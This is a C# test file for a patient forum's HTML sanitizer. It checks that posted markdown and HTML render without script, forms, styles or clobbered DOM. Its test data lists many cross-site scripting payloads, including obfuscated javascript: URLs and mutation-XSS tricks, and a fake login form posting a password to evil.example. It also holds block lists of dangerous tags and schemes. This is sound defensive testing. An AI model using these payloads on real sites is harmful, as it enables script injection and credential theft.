using System.Net;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using PatientForum.Tests.Infrastructure;

namespace PatientForum.Tests.Features.Posting;

/// <summary>
/// What members write is shown to everyone, so nothing in a post may run script, submit data elsewhere,
/// restyle the page or clobber its DOM. Each test reads the rendered post the way a browser would.
/// </summary>
public sealed class SanitizationTests(ForumFactory factory) : IClassFixture<ForumFactory>
{
    private const string Topic = "biologics";
    private const string ExternalRel = "nofollow ugc noopener";

    // Browsers parse with scripting on, which changes how <noscript> is read (a classic mutation-XSS route).
    private static readonly HtmlParser s_parser = new(new HtmlParserOptions { IsScripting = true });

    private static readonly string[] s_forbiddenTags =
    [
        "script", "iframe", "frame", "frameset", "form", "input", "button", "textarea", "select",
        "object", "embed", "applet", "style", "link", "meta", "base",
    ];

    private static readonly string[] s_forbiddenAttributes = ["style", "id", "name", "formaction"];

    private static readonly string[] s_urlAttributes =
        ["href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "background", "cite", "data", "lowsrc", "dynsrc"];

    private static readonly string[] s_dangerousSchemes = ["javascript:", "vbscript:", "data:"];

    public static TheoryData<string> DangerousBodies => new()
    {
        "<script>alert('xss')</script>",
        "<img src=x onerror=alert(1)>",
        "[click me](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[click me](vbscript:msgbox(1))",
        "<a href=\"vbscript:msgbox(1)\">click me</a>",
        "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<a href=\"data:text/html,<script>alert(1)</script>\">click me</a>",
        "![x](javascript:alert(1))",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button formaction=\"javascript:alert(1)\">Log in</button></form>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:white\">Please sign in again</p>",
        "<svg onload=alert(1)><circle r=\"10\"/></svg>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<style>body { display: none }</style>",
        "<a href=\"jav&#x09;ascript:alert(1)\">click me</a>",
        "[click me](jav&#x09;ascript:alert(1))",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click me</a>",
        "<a href=\" JaVaScRiPt:alert(1)\">click me</a>",
        "<a href=\"java\nscript:alert(1)\">click me</a>",
        "<div onmouseover=\"alert(1)\">hover me</div>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<a href=\"https://example.org/\" id=\"main\" name=\"login\">clobber</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
    };

    [Theory]
    [MemberData(nameof(DangerousBodies))]
    public async Task StartThread_WithDangerousMarkup_RendersNothingThatRunsSubmitsOrRestyles(string payload)
    {
        var member = await Members.RegisterConfirmedAsync(factory);
        var marker = Unique("Marker");

        var page = await StartThreadAsync(member, $"{marker}\n\n{payload}");

        var body = SinglePostBody(page);
        var document = body.Owner!;
        Assert.Contains(marker, body.TextContent, StringComparison.Ordinal);
        AssertHarmless(body);
        AssertNothingEscapedThePost(document);
    }

    [Fact]
    public async Task StartThread_WithBoldAndList_KeepsFormatting()
    {
        var member = await Members.RegisterConfirmedAsync(factory);

        var page = await StartThreadAsync(member, "**Much better** after:\n\n- two sessions\n- one rest week");

        var body = SinglePostBody(page);
        Assert.Equal("Much better", body.QuerySelector("strong")?.TextContent);
        Assert.Equal(["two sessions", "one rest week"], body.QuerySelectorAll("ul > li").Select(li => li.TextContent.Trim()));
    }

    [Fact]
    public async Task StartThread_WithLinks_KeepsThemAndMarksExternalOnesNofollowUgcNoopener()
    {
        var member = await Members.RegisterConfirmedAsync(factory);

        var page = await StartThreadAsync(member,
            "[my clinic](https://example.org/clinic), https://example.org/auto, "
            + "<a href=\"https://example.org/raw\" rel=\"opener\" target=\"_blank\">raw</a> and [mail me](mailto:someone@example.org)");

        var body = SinglePostBody(page);
        foreach (var href in new[] { "https://example.org/clinic", "https://example.org/auto", "https://example.org/raw" })
        {
            var link = body.QuerySelector($"a[href='{href}']");
            Assert.True(link is not null, $"No link to {href} in: {body.InnerHtml}");
            Assert.Equal(ExternalRel, link.GetAttribute("rel"));
        }
        Assert.Equal("mail me", body.QuerySelector("a[href='mailto:someone@example.org']")?.TextContent);
        AssertHarmless(body);
    }

    [Fact]
    public async Task StartThread_WithImage_ShowsALinkToItInstead()
    {
        var member = await Members.RegisterConfirmedAsync(factory);

        var page = await StartThreadAsync(member, "My scan: ![knee MRI](https://example.org/mri.png)");

        var body = SinglePostBody(page);
        Assert.Empty(body.QuerySelectorAll("img"));
        var link = body.QuerySelector("a[href='https://example.org/mri.png']");
        Assert.True(link is not null, $"No link to the image in: {body.InnerHtml}");
        Assert.Equal("knee MRI", link.TextContent);
        Assert.Equal(ExternalRel, link.GetAttribute("rel"));
    }

    [Theory]
    [InlineData("**Bold**, a [link](https://example.org/x) and ![scan](https://example.org/scan.png)")]
    [InlineData("<img src=x onerror=alert(1)> and [click](javascript:alert(1))")]
    [InlineData("<form action=\"https://evil.example/\"><input name=\"q\"></form><p style=\"color:red\" onclick=\"alert(1)\">hi</p>")]
    [InlineData("<a href=\"jav&#x09;ascript:alert(1)\">x</a><svg onload=alert(1)></svg><iframe src=\"https://evil.example/\"></iframe>")]
    public async Task Preview_OfAnyBody_IsTheSameSanitizedHtmlAsTheSavedPost(string markdown)
    {
        var member = await Members.RegisterConfirmedAsync(factory);
        var body = $"{Unique("Marker")}\n\n{markdown}";
        var compose = await member.Client.GetOkAsync($"/t/{Topic}/new");
        var token = compose.Document.QuerySelector("form.composer input[name=__RequestVerificationToken]")!.GetAttribute("value")!;

        using var content = new FormUrlEncodedContent([new("body", body), new("__RequestVerificationToken", token)]);
        using var response = await member.Client.Http.PostAsync(new Uri("/posts/preview", UriKind.Relative), content);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/html", response.Content.Headers.ContentType?.MediaType);
        var preview = s_parser.ParseDocument($"<!DOCTYPE html><div id=\"preview\">{await response.Content.ReadAsStringAsync()}</div>").QuerySelector("#preview")!;
        AssertHarmless(preview);
        var saved = SinglePostBody(await member.Client.SubmitAsync(compose, Compose.NewThreadForm,
            new Dictionary<string, string?> { ["Title"] = Unique("Preview check"), ["Body"] = body }));
        Assert.Equal(saved.InnerHtml, preview.InnerHtml);
    }

    private static string Unique(string text) => $"{text} {Guid.NewGuid().ToString("N")[..8]}";

    private static async Task<ForumClient.Page> StartThreadAsync(Member member, string body)
    {
        var page = await Compose.StartThreadAsync(member, Topic, Unique("Sanitizer check"), body);
        Assert.True(page.Status == HttpStatusCode.OK, $"Posting answered {(int)page.Status} for: {body}");
        return page;
    }

    private static IElement SinglePostBody(ForumClient.Page page) =>
        Assert.Single(s_parser.ParseDocument(page.Text).QuerySelectorAll("article.post")).QuerySelector(".post-body")!;

    /// <summary>Fails unless nothing under <paramref name="root"/> could run script, submit, restyle or clobber.</summary>
    private static void AssertHarmless(IElement root)
    {
        foreach (var element in root.QuerySelectorAll("*"))
        {
            var html = element.OuterHtml;
            Assert.False(s_forbiddenTags.Contains(element.LocalName), $"<{element.LocalName}> survived: {html}");
            foreach (var attribute in element.Attributes)
            {
                var name = attribute.Name.ToLowerInvariant();
                Assert.False(name.StartsWith("on", StringComparison.Ordinal), $"Event handler '{name}' survived: {html}");
                Assert.False(s_forbiddenAttributes.Contains(name), $"Attribute '{name}' survived: {html}");
                if (s_urlAttributes.Contains(name))
                {
                    var scheme = s_dangerousSchemes.FirstOrDefault(s => AsBrowserReadsIt(attribute.Value).StartsWith(s, StringComparison.Ordinal));
                    Assert.True(scheme is null, $"A {scheme} URL survived in '{name}': {html}");
                }
            }
        }
    }

    /// <summary>Browsers drop tabs and newlines anywhere in a URL and leading spaces and controls, and ignore case in the scheme.</summary>
    private static string AsBrowserReadsIt(string url) =>
        new string(url.Where(c => c is not ('\t' or '\n' or '\r')).ToArray()).TrimStart(Enumerable.Range(0, 0x21).Select(i => (char)i).ToArray()).ToLowerInvariant();

    /// <summary>Guards against markup that breaks out of the post's div: the page as a whole stays script- and handler-free.</summary>
    private static void AssertNothingEscapedThePost(IDocument document)
    {
        // The layout's own scripts, and the thread's JSON-LD: a data block in the head, which browsers never run.
        var head = document.Head!;
        Assert.All(document.QuerySelectorAll("script").Where(s => !(s.ParentElement == head && s.GetAttribute("type") == "application/ld+json" && !s.HasAttribute("src"))),
            s => Assert.Matches(@"^/(js/(site|live|bell|typing|composer|safety-check|quote|reactions|drafts|theme-init|theme)\.js|lib/signalr/signalr\.min\.js)\?v=", s.GetAttribute("src") ?? ""));
        Assert.True(document.QuerySelectorAll("script[type='application/ld+json']").Length <= 1, "A post added a JSON-LD block.");
        Assert.Empty(document.QuerySelectorAll("iframe, frame, object, embed, base, meta[http-equiv], style"));
        // The layout's stylesheet and icon, and the head's canonical address and feed links.
        Assert.All(document.QuerySelectorAll("link:not([rel=stylesheet][href^='/css/']):not([rel=icon][href='/favicon.svg'])"), l =>
            Assert.True(l.ParentElement == head && (l.GetAttribute("rel") == "canonical" || (l.GetAttribute("rel") == "alternate" && l.GetAttribute("type")!.EndsWith("+xml", StringComparison.Ordinal))),
                $"A link escaped the post: {l.OuterHtml}"));
        foreach (var element in document.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        }
    }
}
